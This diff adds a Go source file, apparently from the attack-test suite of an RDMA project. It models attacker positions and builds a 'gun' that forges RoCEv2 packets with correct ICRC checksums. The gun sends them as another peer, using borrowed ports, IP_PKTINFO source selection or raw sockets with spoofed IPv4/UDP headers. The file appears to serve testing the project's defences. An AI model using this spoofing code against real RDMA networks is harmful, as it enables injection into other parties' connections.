@@ -1,0 +1,184 @@
+package attack
+
+import (
+	"context"
+	"encoding/binary"
+	"fmt"
+	"net"
+	"net/netip"
+	"syscall"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/verbena-rdma/verbena/internal/roce/wire"
+)
+
+// vantage is where an attacker is and what he can do.
+type vantage int
+
+const (
+	// byPort: a process of the peer's host, without privileges, from the peer's address and a
+	// port of its own.
+	byPort vantage = iota
+	// byPacketInfo: the same, bound to the peer's port at another address of the host, and
+	// IP_PKTINFO or IPV6_PKTINFO names the peer's address.
+	byPacketInfo
+	// byOwnAddress: another host, or a process with an address of its own.
+	byOwnAddress
+	// bySpoofing: another host that sends packets with any source address and port (CAP_NET_RAW
+	// there, and a network that lets them pass).
+	bySpoofing
+)
+
+// gun sends packets from one address to another.
+type gun struct {
+	from, to netip.AddrPort
+	flow     wire.Flow
+	conn     *net.UDPConn
+	control  []byte
+	raw      int // a socket, or -1
+	buf      []byte
+	sent     int64
+}
+
+// dontFragment has the identification of IPv4 packets be zero, as the ICRC has it.
+func dontFragment(_, _ string, c syscall.RawConn) error {
+	return c.Control(func(fd uintptr) { // IPv6 has neither
+		_ = unix.SetsockoptInt(int(fd), unix.IPPROTO_IP, unix.IP_MTU_DISCOVER, unix.IP_PMTUDISC_DO)
+	})
+}
+
+func bind(at netip.AddrPort) (*net.UDPConn, error) {
+	lc := net.ListenConfig{Control: dontFragment}
+	c, err := lc.ListenPacket(context.Background(), "udp", at.String())
+	if err != nil {
+		return nil, fmt.Errorf("bind an attacker's socket to %v: %w", at, err)
+	}
+	u := c.(*net.UDPConn)
+	_ = u.SetReadBuffer(8 << 20)
+	return u, nil
+}
+
+func localAddr(c *net.UDPConn) netip.AddrPort {
+	a := c.LocalAddr().(*net.UDPAddr).AddrPort()
+	return netip.AddrPortFrom(a.Addr().Unmap(), a.Port())
+}
+
+// newGun sends from a socket of the attacker's own.
+func newGun(conn *net.UDPConn, to netip.AddrPort) *gun {
+	g := &gun{conn: conn, raw: -1, from: localAddr(conn), to: to}
+	g.aim()
+	return g
+}
+
+func (g *gun) aim() {
+	g.flow = wire.NewFlow(g.from, g.to)
+	g.buf = make([]byte, 28, wire.MaxDatagramLen+28)
+}
+
+// aimAs sends as somebody else, in the way of the vantage. own is an address of the attacker's.
+func aimAs(v vantage, own netip.Addr, from, to netip.AddrPort) (*gun, error) {
+	switch v {
+	case byPort:
+		conn, err := bind(netip.AddrPortFrom(from.Addr(), entropyPort(from)))
+		if err != nil {
+			return nil, err
+		}
+		return newGun(conn, to), nil
+	case byOwnAddress:
+		conn, err := bind(netip.AddrPortFrom(own, 0))
+		if err != nil {
+			return nil, err
+		}
+		return newGun(conn, to), nil
+	case byPacketInfo:
+		conn, err := bind(netip.AddrPortFrom(own, from.Port()))
+		if err != nil {
+			return nil, err
+		}
+		return newGun(conn, to).as(from), nil
+	}
+	raw, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
+	if err != nil {
+		return nil, fmt.Errorf("open a raw socket: %w", err)
+	}
+	g := &gun{from: from, to: to, raw: raw}
+	g.aim()
+	return g, nil
+}
+
+// entropyPort is a source port that any sender of RoCEv2 may choose.
+func entropyPort(from netip.AddrPort) uint16 {
+	for port := uint16(50001); ; port++ {
+		c, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(from.Addr(), port)))
+		if err == nil {
+			_ = c.Close()
+			return port
+		}
+		if port == 60000 {
+			return 0
+		}
+	}
+}
+
+// packetInfo has the kernel send from an address that the socket is not bound to (ip(7),
+// ipv6(7)).
+func packetInfo(from netip.Addr) []byte {
+	if from.Is4() {
+		return unix.PktInfo4(&unix.Inet4Pktinfo{Spec_dst: from.As4()})
+	}
+	return unix.PktInfo6(&unix.Inet6Pktinfo{Addr: from.As16()})
+}
+
+// as returns a gun that sends from another address by the same socket.
+func (g *gun) as(from netip.AddrPort) *gun {
+	other := &gun{conn: g.conn, raw: -1, from: from, to: g.to, control: packetInfo(from.Addr())}
+	other.aim()
+	return other
+}
+
+func (g *gun) close() {
+	if g.conn != nil {
+		_ = g.conn.Close()
+	}
+	if g.raw >= 0 {
+		_ = unix.Close(g.raw)
+	}
+}
+
+// fire sends a packet with its padding and the right ICRC.
+func (g *gun) fire(p *wire.Packet) {
+	if p.PKey == 0 {
+		p.PKey = 0xffff
+	}
+	p.MigReq, p.Pad = true, uint8(-len(p.Payload)&3)
+	b := g.buf[28:cap(g.buf)]
+	n := p.PutHeaders(b)
+	n += copy(b[n:], p.Payload)
+	n += copy(b[n:], make([]byte, p.Pad))
+	header := p.Opcode.HeaderLen()
+	crc := g.flow.ICRCStart(0, n+wire.ICRCLen, b[:header])
+	wire.PutICRC(b[n:], wire.ICRCFinish(wire.ICRCUpdate(crc, b[header:n])))
+	g.fireBytes(b[:n+wire.ICRCLen])
+}
+
+// fireBytes sends the payload of a UDP packet. That it is lost is nothing new to networks.
+func (g *gun) fireBytes(b []byte) {
+	g.sent++
+	if g.raw < 0 {
+		_, _, _ = g.conn.WriteMsgUDPAddrPort(b, g.control, g.to)
+		return
+	}
+	h := g.buf[:28]
+	clear(h)
+	h[0], h[8], h[9] = 0x45, 64, unix.IPPROTO_UDP
+	binary.BigEndian.PutUint16(h[2:], uint16(28+len(b)))
+	h[6] = 0x40 // don't fragment
+	copy(h[12:], g.from.Addr().AsSlice())
+	copy(h[16:], g.to.Addr().AsSlice())
+	binary.BigEndian.PutUint16(h[20:], g.from.Port())
+	binary.BigEndian.PutUint16(h[22:], g.to.Port())
+	binary.BigEndian.PutUint16(h[24:], uint16(8+len(b)))
+	copy(g.buf[28:cap(g.buf)], b)
+	_ = unix.Sendto(g.raw, g.buf[:28+len(b)], 0, &unix.SockaddrInet4{Addr: g.to.Addr().As4()})
+}
